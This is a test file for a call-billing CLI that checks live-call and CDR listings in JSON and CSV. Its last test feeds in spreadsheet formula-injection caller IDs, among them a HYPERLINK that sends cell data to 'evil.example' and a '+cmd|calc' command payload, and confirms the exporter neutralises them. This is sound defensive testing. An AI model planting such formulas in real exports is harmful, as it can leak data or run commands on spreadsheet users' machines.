import assert from 'node:assert/strict';
import type { Rate } from '../../daemon/src/rating/index.js';
import { forEachDatabase, uniqueName, type TestStore } from '../support/db.js';
import { readCsv } from '../../daemon/src/csv.js';
import { astbill, parsed } from './run-cli.js';

interface CallJson {
  uniqueid: string;
  account: string;
  node: string;
  maxSeconds: number;
  maxCost: string;
  answer: string | null;
}

interface CdrJson {
  uniqueid: string;
  account: string;
  disposition: string | null;
  reason: string | null;
  billsec: number;
  cost: string;
  status: string;
}

describe('astbill calls and cdr', function () {
  this.timeout(60_000);
  forEachDatabase((tdb) => {
    let t: TestStore;
    let rate: Rate;
    let account: string;
    let live: string;
    let done: string;
    const cli = (...args: string[]) => astbill(tdb.url, args);

    before(async () => {
      t = await tdb.open();
      rate = await t.seedRate({
        tariff: 'default',
        prefix: '44',
        rate: '0.05',
        connect: '0.10',
        initial: 60,
        increment: 6,
      });
      const a = await t.seedAccount({ balance: '5' });
      account = a.name;
      const call = (uniqueid: string, start: Date) =>
        t.store.authorise({
          uniqueid,
          accountId: a.id,
          src: '15550100',
          dst: '447700900123',
          rate,
          node: 'node7',
          defaultMaxSeconds: 600,
          start,
        });
      done = uniqueName('done');
      await call(done, new Date('2030-01-01T10:00:00Z'));
      await t.store.settle({
        uniqueid: done,
        disposition: 'ANSWERED',
        hangupCause: 16,
        answer: new Date('2030-01-01T10:00:05Z'),
        end: new Date('2030-01-01T10:01:40Z'),
        billsec: 95,
      });
      live = uniqueName('live');
      await call(live, new Date('2030-01-02T10:00:00Z'));
      await t.store.markAnswered(live, new Date('2030-01-02T10:00:03Z'));
      await t.store.recordRefusal({
        uniqueid: uniqueName('refused'),
        accountId: a.id,
        src: '15550100',
        dst: '999',
        reason: 'NOROUTE',
        node: 'node7',
        start: new Date('2030-01-03T10:00:00Z'),
      });
    });

    it('lists the calls up right now with what they hold reserved', async () => {
      const calls = parsed<CallJson[]>(await cli('calls', '--json'));
      const mine = calls.filter((c) => c.account === account);
      assert.deepEqual(
        mine.map((c) => [c.uniqueid, c.node, c.maxSeconds, c.maxCost, c.answer]),
        [[live, 'node7', 600, '0.60000', '2030-01-02T10:00:03.000Z']],
      );
    });

    it('prints an account’s CDRs as JSON and CSV, refusals included, filtered by time', async () => {
      const [j, c, s] = await Promise.all([
        cli('cdr', '--account', account, '--json'),
        cli('cdr', '--account', account, '--csv'),
        cli('cdr', '--account', account, '--since', '2030-01-02', '--json'),
      ]);
      const rows = parsed<CdrJson[]>(j);
      assert.deepEqual(
        rows.map((r) => [r.disposition, r.reason, r.billsec, r.cost, r.status]),
        [
          ['ANSWERED', null, 95, '0.18000', 'settled'],
          [null, null, 0, '0.00000', 'open'],
          ['FAILED', 'NOROUTE', 0, '0.00000', 'settled'],
        ],
      );
      assert.equal(rows[0]?.uniqueid, done);
      const csvLines = c.stdout.trimEnd().split('\r\n');
      assert.equal(
        csvLines[0],
        'uniqueid,account,node,src,dst,tariff,prefix,start,answer,end,duration,billsec,disposition,hangup_cause,reason,max_seconds,max_cost,cost,trunk,buy_cost,margin,tariff_currency,fx_rate,tariff_cost,status,note',
      );
      assert.equal(csvLines.length, 4);
      assert.match(
        csvLines[1]!,
        new RegExp(
          `^${done},${account},node7,15550100,447700900123,default,44,2030-01-01T10:00:00.000Z,.*,ANSWERED,16,,600,0.60000,0.18000,,,,,,,settled,$`,
        ),
      );
      assert.equal(parsed<CdrJson[]>(s).length, 2);
    });

    it('writes caller IDs into CSV so that no spreadsheet runs them, and leaves numbers alone', async () => {
      const a = await t.seedAccount({ balance: '1' });
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        '@SUM(1+1)',
        '+cmd|calc',
        '-1+1',
        '\tTAB',
        '+447700900123',
        '-5.25',
      ];
      for (const [i, src] of hostile.entries())
        await t.store.recordRefusal({
          uniqueid: uniqueName('hostile'),
          accountId: a.id,
          src,
          dst: '999',
          reason: 'NOROUTE',
          node: 'node7',
          start: new Date(Date.UTC(2030, 0, 4, 10, i)),
        });
      const r = await cli('cdr', '--account', a.name, '--csv');
      assert.equal(r.code, 0, r.stderr);
      const [header, ...rows] = readCsv(r.stdout).map((x) => x.fields);
      const src = rows.map((row) => row[header!.indexOf('src')]);
      assert.deepEqual(src, [
        `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
        "'@SUM(1+1)",
        "'+cmd|calc",
        "'-1+1",
        "'\tTAB",
        '+447700900123',
        '-5.25',
      ]);
    });
  });
});
